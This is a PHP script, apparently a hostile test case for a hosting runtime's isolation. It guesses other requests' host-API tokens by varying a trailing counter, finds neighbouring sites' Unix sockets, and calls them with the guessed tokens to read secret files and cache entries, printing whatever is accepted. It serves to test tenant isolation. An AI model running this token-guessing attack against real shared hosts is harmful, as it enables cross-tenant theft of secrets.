<?php
// Class 4: derive other requests' host-API tokens from this request's own, and call the host as
// them, on this site's callback socket and on other sites' sockets of the same server.
$mine = (string)($_SERVER['DYNLAN_TOKEN'] ?? '');
$socket = (string)($_SERVER['DYNLAN_HOST_SOCKET'] ?? '');
dynlan_log('warning', 'hostile-inflight ' . ($_GET['tag'] ?? ''));

function neighbours(string $token): array
{
    // A counter at the end, in hex or decimal, of any width: its neighbours on both sides.
    $out = [];
    for ($len = 1; $len <= 8 && $len < strlen($token); $len++) {
        $head = substr($token, 0, -$len);
        $tail = substr($token, -$len);
        foreach ([[16, ctype_xdigit($tail)], [10, ctype_digit($tail)]] as [$base, $fits]) {
            if (!$fits) {
                continue;
            }
            $n = intval($tail, $base);
            for ($d = -6; $d <= 6; $d++) {
                if ($d === 0 || $n + $d < 0) {
                    continue;
                }
                $digits = base_convert((string)($n + $d), 10, $base);
                $out[] = $head . $digits;
                $out[] = $head . str_pad($digits, $len, '0', STR_PAD_LEFT);
            }
        }
    }
    return array_values(array_unique(array_diff($out, [$token])));
}

function ask(string $socket, string $token, string $op, array $args): ?string
{
    $c = @stream_socket_client('unix://' . $socket, $errno, $errstr, 1);
    if ($c === false) {
        return null;
    }
    stream_set_timeout($c, 0, 200000);
    fwrite($c, json_encode(['token' => $token, 'op' => $op, 'args' => $args]) . "\n");
    $reply = fgets($c);
    fclose($c);
    $decoded = $reply === false ? null : json_decode($reply, true);
    return is_array($decoded) && ($decoded['ok'] ?? false) ? trim($reply) : null;
}

$sockets = [$socket];
// Other sites' host sockets of this server: the same name in a sibling folder. (Never a folder as
// wide as the temp folder: other servers' sockets are not this test's business.)
$parent = dirname($socket, 2);
if (!in_array($parent, ['/', '/tmp', rtrim(sys_get_temp_dir(), '/')], true)) {
    foreach (@glob($parent . '/*/' . basename($socket)) ?: [] as $path) {
        if (@filetype($path) === 'socket') {
            $sockets[] = $path;
        }
    }
}
$sockets = array_values(array_unique($sockets));
$candidates = neighbours($mine);
$accepted = [];
$tried = 0;
$deadline = microtime(true) + 1.2;
while (microtime(true) < $deadline) {
    foreach ($sockets as $s) {
        foreach ($candidates as $t) {
            foreach ([['fs_read', ['_secret.txt']], ['cache_get', ['secret']]] as [$op, $args]) {
                if (microtime(true) >= $deadline) {
                    break 3;
                }
                $tried++;
                $reply = ask($s, $t, $op, $args);
                if ($reply !== null) {
                    $accepted["$t $op"] = $reply;
                }
            }
        }
    }
}
echo 'candidates ', count($candidates), ' sockets ', count($sockets), ' calls ', $tried, "\n";
foreach ($accepted as $what => $reply) {
    echo "accepted $what: $reply\n";
}
